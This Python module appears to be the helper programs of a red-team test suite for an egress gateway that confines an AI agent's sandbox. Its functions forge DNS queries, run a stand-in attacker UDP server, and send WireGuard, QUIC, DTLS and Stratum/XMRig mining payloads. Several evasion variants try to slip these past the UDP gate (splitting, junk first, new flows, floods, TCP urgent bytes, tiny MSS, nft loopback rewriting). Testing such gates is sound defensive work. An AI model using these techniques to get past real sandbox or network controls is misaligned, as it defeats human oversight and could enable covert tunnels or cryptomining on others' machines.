"""Programs of red team 10b's modules (tests/security/test_redteam_gateway_surfaces.py,
tests/security/test_redteam_udp_allowed.py): plain sockets, no tool the sandbox would not have.

- `probe_main` (either side): dials every ``tcp:ADDRESS:PORT`` and sends every ``udp:ADDRESS:PORT`` it is given, at
  once (threads: a probe that hangs costs its wait once, not once per target), and prints one line per target:
  ``probe TARGET connected N`` (a TCP connection came up and N bytes came back to a request) or ``probe TARGET
  refused|timeout|error``, ``probe TARGET answered N`` (a UDP answer of N bytes) or ``probe TARGET silent``.
- `dns_query`: one standard DNS query (the lab's own codec), sent as a UDP probe and as the outsider's forged query.
- `forged_query_main` (internet namespace): the outsider's DNS query to the gateway's uplink, from an address of
  the sandbox it has put on its own loopback, for a name that carries its chosen bytes.
- `listen_main` (sandbox namespace): a raw UDP receiver on one port that logs every datagram with the chosen
  bytes it holds (``heard N bytes, marker yes|no``): what the agent receives unasked.
- `udp_sink_main` / `udp_send_main`: the attacker's UDP server on an allowed UDP network and the agent's sender of
  tunnel and pool datagrams to it (WireGuard, DTLS, QUIC, Stratum in JSON), each carrying the marker;
  `udp_variant_main` sends them so as to slip past the UDP gate (split, after junk, on a second flow, a flood).
"""

from __future__ import annotations

import contextlib
import json
import os
import select
import socket
import sys
import threading
import time

from egress.detect import dns

MARK = b"5ec7e7-rt10"
"""The chosen bytes every payload carries: found in a capture or a receiver's log, they crossed."""
WAIT = 2.0
"""Seconds a probe waits for a connection or an answer (silence is the expected answer)."""


def dns_query(name: str, ident: int = 0x1010) -> bytes:
    """One standard query (A, IN, recursion desired) for ``name``."""
    return dns.build_query(ident, name, 1)


def _family(address: str) -> socket.AddressFamily:
    return socket.AF_INET6 if ":" in address else socket.AF_INET


def _split(target: str) -> tuple[str, str, int]:
    kind, rest = target.split(":", 1)
    address, port = rest.rsplit(":", 1)
    return kind, address, int(port)


def _probe_tcp(address: str, port: int) -> str:
    sock = socket.socket(_family(address), socket.SOCK_STREAM)
    sock.settimeout(WAIT)
    try:
        sock.connect((address, port, 0, 0) if ":" in address else (address, port))
    except ConnectionRefusedError:
        return "refused"
    except TimeoutError:
        return "timeout"
    except OSError as exc:
        return f"error {exc.errno}"
    got = b""
    try:  # a line every service here would answer something to (HTTP, Redis's inline command, SSH's banner)
        sock.sendall(b"PING " + MARK + b"\r\nHost: allowed.lab\r\n\r\n")
        while len(got) < 4096:
            chunk = sock.recv(4096)
            if not chunk:
                break
            got += chunk
    except OSError:
        pass
    finally:
        sock.close()
    return f"connected {len(got)}"


def _probe_udp(address: str, port: int) -> str:
    sock = socket.socket(_family(address), socket.SOCK_DGRAM)
    if address.startswith("255.") or address.endswith(".255"):
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    sock.settimeout(WAIT)
    try:
        sock.sendto(dns_query(f"{MARK.decode()}.allowed.lab"), (address, port))
        data = sock.recv(65535)
    except TimeoutError:
        return "silent"
    except OSError as exc:
        return f"error {exc.errno}"
    finally:
        sock.close()
    return f"answered {len(data)}"


def probe_main() -> None:
    """``python -c '...probe_main()' tcp:ADDRESS:PORT udp:ADDRESS:PORT ...``"""
    results: dict[str, str] = {}

    def one(target: str) -> None:
        kind, address, port = _split(target)
        results[target] = _probe_tcp(address, port) if kind == "tcp" else _probe_udp(address, port)

    threads = [threading.Thread(target=one, args=(target,)) for target in sys.argv[1:]]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    for target in sys.argv[1:]:
        print(f"probe {target} {results[target]}", flush=True)


def forged_query_main() -> None:
    """``python -c '...forged_query_main()' SOURCE SPORT GATEWAY PORT NAME...``: each name asked once from
    SOURCE:SPORT (an address of the sandbox the outsider holds on its loopback) to GATEWAY:PORT."""
    source, sport, gateway, port = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])
    sock = socket.socket(_family(source), socket.SOCK_DGRAM)
    sock.bind((source, sport))
    for index, name in enumerate(sys.argv[5:]):
        sock.sendto(dns_query(name, 0x2000 + index), (gateway, port))
        print(f"asked {name}", flush=True)
        time.sleep(0.2)  # one at a time: the resolver's answers are the agent's to count


def listen_main() -> None:
    """``python -c '...listen_main()' PORT``: the agent's receiver (both families) of what arrives unasked."""
    port = int(sys.argv[1])
    socks = []
    for family, address in ((socket.AF_INET, "0.0.0.0"), (socket.AF_INET6, "::")):
        sock = socket.socket(family, socket.SOCK_DGRAM)
        if family == socket.AF_INET6:
            sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
        sock.bind((address, port))
        socks.append(sock)
    print("listening", flush=True)
    while True:
        for sock in select.select(socks, [], [])[0]:
            data, peer = sock.recvfrom(65535)
            message = dns.parse_partial(data)  # the log says what arrived, whatever it is
            names = [dns.name_text(q.labels) for q in message.questions] if message else []
            marker = "yes" if MARK in data else "no"
            print(f"heard {len(data)} bytes from {peer[0]}, marker {marker}, questions {names}", flush=True)


def udp_sink_main() -> None:
    """``python -c '...udp_sink_main()' ADDRESS PORT``: the attacker's server on an allowed UDP network; answers
    every datagram with one of its own carrying the marker (the tunnel's other direction)."""
    address, port = sys.argv[1], int(sys.argv[2])
    sock = socket.socket(_family(address), socket.SOCK_DGRAM)
    sock.bind((address, port))
    print("listening", flush=True)
    while True:
        data, peer = sock.recvfrom(65535)
        marker = "yes" if MARK in data else "no"
        print(f"received {len(data)} bytes, marker {marker}, head {data[:12].hex()}", flush=True)
        sock.sendto(b"back " + MARK + b" " + data[:16], peer)


def _wireguard() -> bytes:
    # handshake initiation (type 1, reserved, sender index, then 32 + 48 + 28 + 32 bytes that are random to anyone
    # without the keys: WireGuard paper section 5.4.2), 148 bytes, with the marker where the MACs go
    return b"\x01\x00\x00\x00" + os.urandom(148 - 4 - len(MARK)) + MARK


def _dtls() -> bytes:
    # a DTLS 1.2 record (content type 22, version 0xfefd, epoch 0, sequence 0) carrying a ClientHello's start
    body = b"\x01" + (60).to_bytes(3, "big") + b"\x00\x00" + bytes(6) + b"\xfe\xfd" + os.urandom(32) + MARK
    return b"\x16\xfe\xfd" + bytes(8) + len(body).to_bytes(2, "big") + body


def _quic() -> bytes:
    # a QUIC v1 long header Initial (RFC 9000 17.2.2): form and fixed bits, version 1, 8-byte connection ids;
    # the protected payload is random to anyone but the peer; padded to 1,200 bytes as clients must
    head = b"\xc0\x00\x00\x00\x01\x08" + os.urandom(8) + b"\x08" + os.urandom(8) + b"\x00\x44\xa0"
    return (head + MARK + os.urandom(1200)).ljust(1200, b"\0")[:1200]


def _stratum() -> bytes:
    call = {"id": 1, "method": "mining.submit", "params": ["wallet." + MARK.decode(), "job1", "00", "5e", "00"]}
    return json.dumps(call).encode() + b"\n"


def _xmrig() -> bytes:
    params = {"login": "4" + "A" * 94, "pass": "x", "agent": "XMRig/6.21.0 " + MARK.decode()}
    return json.dumps({"id": 1, "jsonrpc": "2.0", "method": "login", "params": params}).encode() + b"\n"


def _benign() -> bytes:
    # a JSON-RPC line no pool or node detector names (the control for the UDP gate's hold of split messages)
    call = {"id": 1, "method": "status.report", "params": ["build " + MARK.decode(), "x" * 120]}
    return json.dumps(call).encode() + b"\n"


PAYLOADS = {
    "wireguard": _wireguard,
    "dtls": _dtls,
    "quic": _quic,
    "stratum": _stratum,
    "xmrig": _xmrig,
    "benign": _benign,
}


def udp_send_main() -> None:
    """``python -c '...udp_send_main()' KIND ADDRESS PORT``: three datagrams of KIND; prints the answers' count."""
    kind, address, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
    sock = socket.socket(_family(address), socket.SOCK_DGRAM)
    sock.settimeout(WAIT)
    answers = 0
    for _ in range(3):
        sock.sendto(PAYLOADS[kind](), (address, port))
        try:
            if MARK in sock.recv(65535):
                answers += 1
        except TimeoutError:
            pass
    print(f"sent 3, answers {answers}", flush=True)


SUBSCRIBE = b'{"id":1,"method":"mining.subscribe","params":["cpuminer/2.5.1 ' + MARK + b'"]}\n'
AUTHORIZE = b'{"id":2,"method":"mining.authorize","params":["lab-worker.1","x"]}\n'
TCP_FASTOPEN_CONNECT = 30
"""``TCP_FASTOPEN_CONNECT`` (linux/tcp.h): connect() returns at once and the first write rides in the SYN."""


def _edge_socket(variant: str, address: str) -> socket.socket:
    sock = socket.socket(_family(address), socket.SOCK_STREAM)
    if variant == "tiny-mss":  # the smallest MSS the kernel takes: 88 bytes less options, messages cut mid-word
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_MAXSEG, 88)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 256)  # and a tiny window back
    if variant == "ip-options":  # a timestamp option (RFC 791, type 68) with room for 4 stamps, in every packet
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, bytes([68, 36, 5, 0]) + bytes(32))
    if variant == "syn-data":
        sock.setsockopt(socket.IPPROTO_TCP, TCP_FASTOPEN_CONNECT, 1)
    sock.settimeout(WAIT)
    return sock


def tcp_edge_main() -> None:
    """``python -c '...tcp_edge_main()' VARIANT ADDRESS PORT``: Stratum's opening to a pool, sent with a TCP or IP
    oddity (``syn-data``: in the SYN, TCP Fast Open; ``urgent``: a junk byte sent urgent inside each line; ``tiny-mss``;
    ``ip-options``); prints ``answer N bytes, notify yes|no`` (whether the pool's ``mining.notify`` came back)."""
    variant, address, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
    got = b""
    try:
        sock = _edge_socket(variant, address)
        sock.connect((address, port))
        if variant == "urgent":  # a junk byte sent urgent in the middle of each line: a reader that keeps urgent
            # data inline (SO_OOBINLINE) reads broken JSON where the pool, which does not, reads the clean line
            for line in (SUBSCRIBE, AUTHORIZE):
                sock.sendall(line[:20])
                sock.send(b"!", socket.MSG_OOB)
                time.sleep(0.05)  # its own segment: the urgent pointer is not overtaken by the next byte
                sock.sendall(line[20:])
        else:
            sock.sendall(SUBSCRIBE + AUTHORIZE)
        deadline = time.monotonic() + 3 * WAIT
        while time.monotonic() < deadline and b"mining.notify" not in got:
            chunk = sock.recv(4096)
            if not chunk:
                break
            got += chunk
    except OSError as exc:
        print(f"error {exc}", flush=True)
    notify = "yes" if b"mining.notify" in got else "no"
    print(f"answer {len(got)} bytes, notify {notify}", flush=True)


def talk_main() -> None:
    """``python -c '...talk_main()' ADDRESS PORT TEXT``: one TCP conversation (TEXT with ``\\r\\n`` escapes
    sent, up to 2 s of answer read); prints ``got N bytes: HEAD``."""
    address, port, text = sys.argv[1], int(sys.argv[2]), sys.argv[3].replace("\\r\\n", "\r\n")
    got = b""
    try:
        sock = socket.create_connection((address, port), timeout=WAIT)
    except OSError as exc:
        print(f"error {exc!r}", flush=True)
        return
    try:
        sock.sendall(text.encode())
        deadline = time.monotonic() + WAIT
        while time.monotonic() < deadline:
            chunk = sock.recv(65536)
            if not chunk:
                break
            got += chunk
    except TimeoutError:  # a service that keeps the connection open (Redis) has said what it says
        pass
    except OSError as exc:
        print(f"error {exc}", flush=True)
    print(f"got {len(got)} bytes: {got[:80]!r}", flush=True)


def loopback_rewrite(device: str) -> str:
    """An nft script for the sandbox (root): on ``device``'s egress, 192.0.2.99 becomes 0.0.0.0 and 2001:db8::99
    the IPv4-mapped ::ffff:127.0.0.1, and the replies' sources are turned back on ingress, so that plain sockets
    to the two stand-ins speak to those destinations (which no socket of the sandbox's own would send on the
    wire: both mean its own host)."""
    return f"""table netdev rt10 {{
  chain out {{
    type filter hook egress device "{device}" priority 0;
    ip daddr {STAND_IN_V4} ip daddr set 0.0.0.0
    ip6 daddr {STAND_IN_V6} ip6 daddr set ::ffff:127.0.0.1
  }}
  chain in {{
    type filter hook ingress device "{device}" priority 0;
    ip saddr 0.0.0.0 ip saddr set {STAND_IN_V4}
    ip6 saddr ::ffff:127.0.0.1 ip6 saddr set {STAND_IN_V6}
  }}
}}
"""


STAND_IN_V4 = "192.0.2.99"
STAND_IN_V6 = "2001:db8::99"


STUN_BINDING = b"\x00\x01\x00\x00\x21\x12\xa4\x42"
"""A STUN binding request's header (RFC 8489 §5: type, length 0, magic cookie); 12 random bytes of id follow."""


def _pieces(data: bytes, parts: int = 3) -> list[bytes]:
    size = -(-len(data) // parts)
    return [data[i : i + size] for i in range(0, len(data), size)]


BENIGN_WAIT = 10.0
"""Seconds a benign datagram's answer may take (a loaded machine; the answer ends the wait)."""


def _junk(size: int) -> bytes:
    """``size`` random bytes that no UDP rule refuses by themselves: a DEL first (a control byte, so never text; the
    high bit clear, so never a QUIC long header; no DTLS, WireGuard or STUN type). Bare random bytes read as a QUIC
    long header about once in 600 datagrams (first bit set, a version, a connection id length in range), and the
    gate refused the flow before the payload: the control row failed once in CI (stop 31)."""
    return b"\x7f" + os.urandom(size - 1)


class _Variant:
    """One run of `udp_variant_main`: KIND's payload to a target, counting what the server answered."""

    def __init__(self, kind: str, address: str, port: int) -> None:
        self.address, self.target = address, (address, port)
        self.payload = PAYLOADS[kind]()
        self.sent = self.answers = self.benign = 0

    def opened(self, wait: float = 0.5) -> socket.socket:
        sock = socket.socket(_family(self.address), socket.SOCK_DGRAM)
        sock.settimeout(wait)
        return sock

    def exchange(self, sock: socket.socket, data: bytes, benign: bool = False) -> None:
        """Send ``data`` and wait for the server's answer: the socket's short wait for the payload's (an answer
        there is the attack's goal), up to `BENIGN_WAIT` for a benign datagram's (the control: its answer comes,
        so the wait ends then; a short fixed window missed it with the CPUs busy)."""
        sock.sendto(data, self.target)
        self.sent += 1
        wait = sock.gettimeout()
        if benign:
            sock.settimeout(BENIGN_WAIT)
        try:
            answered = MARK in sock.recv(65535)
        except TimeoutError:
            answered = False
        finally:
            sock.settimeout(wait)
        if benign:
            self.benign += answered
        else:
            self.answers += answered

    def split(self) -> None:
        with self.opened() as sock:
            for piece in _pieces(self.payload):
                self.exchange(sock, piece)

    def split_now(self) -> None:
        """The split, the pieces back to back (no wait for an answer between them)."""
        with self.opened(wait=2.0) as sock:
            for piece in _pieces(self.payload):
                sock.sendto(piece, self.target)
                self.sent += 1
            with contextlib.suppress(TimeoutError):
                self.answers += MARK in sock.recv(65535)

    def split_bom(self) -> None:
        """The split, after a UTF-8 byte-order mark and whitespace (what JSON parsers skip)."""
        self.payload = b"\xef\xbb\xbf\r\n \t" + self.payload
        self.split()

    def unfinished(self) -> None:
        """The first two pieces only, then silence (the message never completes)."""
        with self.opened(wait=1.0) as sock:
            for piece in _pieces(self.payload)[:2]:
                self.exchange(sock, piece)
            time.sleep(3.0)  # past the gate's hold; an answer to a piece would come now
            with contextlib.suppress(TimeoutError):
                self.answers += MARK in sock.recv(65535)

    def two_flows(self) -> None:
        """The first piece on one flow, the rest on another (a new source port)."""
        first, *rest = _pieces(self.payload)
        with self.opened() as one, self.opened() as two:
            self.exchange(one, first)
            for piece in rest:
                self.exchange(two, piece)

    def held_volume(self) -> None:
        """The first piece from 1,100 flows at once (one socket each, closed at once): more than the gate holds."""
        first = _pieces(self.payload)[0]
        for _ in range(1100):
            with self.opened() as sock:
                sock.sendto(first, self.target)
                self.sent += 1
        time.sleep(3.0)  # past the gate's hold

    def junk_first(self) -> None:
        with self.opened() as sock:
            for junk in (_junk(64), _junk(200), STUN_BINDING + os.urandom(12)):
                self.exchange(sock, junk, benign=True)
            self.exchange(sock, self.payload)

    def second_flow(self) -> None:
        with self.opened() as first:
            for _ in range(3):
                self.exchange(first, STUN_BINDING + os.urandom(12), benign=True)
        with self.opened() as second:
            self.exchange(second, self.payload)

    def flood(self) -> None:
        socks = [self.opened() for _ in range(50)]
        for sock in socks:
            sock.setblocking(False)
        for _ in range(100):
            for sock in socks:
                with contextlib.suppress(BlockingIOError):
                    sock.sendto(self.payload, self.target)
                    self.sent += 1
        time.sleep(1.0)
        for sock in socks:
            with sock:
                while True:
                    try:
                        self.answers += MARK in sock.recv(65535)
                    except BlockingIOError:
                        break


def udp_variant_main() -> None:
    """``python -c '...udp_variant_main()' VARIANT KIND ADDRESS PORT``: KIND's payload sent the VARIANT way, each
    datagram waiting briefly for the server's answer; prints ``sent N, answers M, benign B`` (answers to the
    payload's datagrams, to the benign ones).

    ``split``: the payload cut in three datagrams of one flow; ``junk-first``: two random datagrams and a STUN
    binding request first, then the payload, one flow; ``second-flow``: a benign flow (three STUN requests) and then
    the payload from a new socket (a new source port); ``flood``: the payload 100 times from each of 50 sockets, as
    fast as the sockets take them, then every answer read; ``split-bom``, ``unfinished``, ``two-flows``,
    ``held-volume``: against the gate's hold of split text messages (`_Variant`'s methods say how)."""
    variant, kind, address, port = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
    run = _Variant(kind, address, port)
    getattr(run, variant.replace("-", "_"))()
    print(f"sent {run.sent}, answers {run.answers}, benign {run.benign}", flush=True)


def udp_loop_main() -> None:
    """``python -c '...udp_loop_main()' KIND ADDRESS PORT``: KIND's payload from a new socket (a new flow) every
    tenth of a second, until killed; prints ``sent N`` every 10 datagrams."""
    kind, address, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
    for n in range(1, 1_000_000):
        with socket.socket(_family(address), socket.SOCK_DGRAM) as sock:
            sock.sendto(PAYLOADS[kind](), (address, port))
        if n % 10 == 0:
            print(f"sent {n}", flush=True)
        time.sleep(0.1)
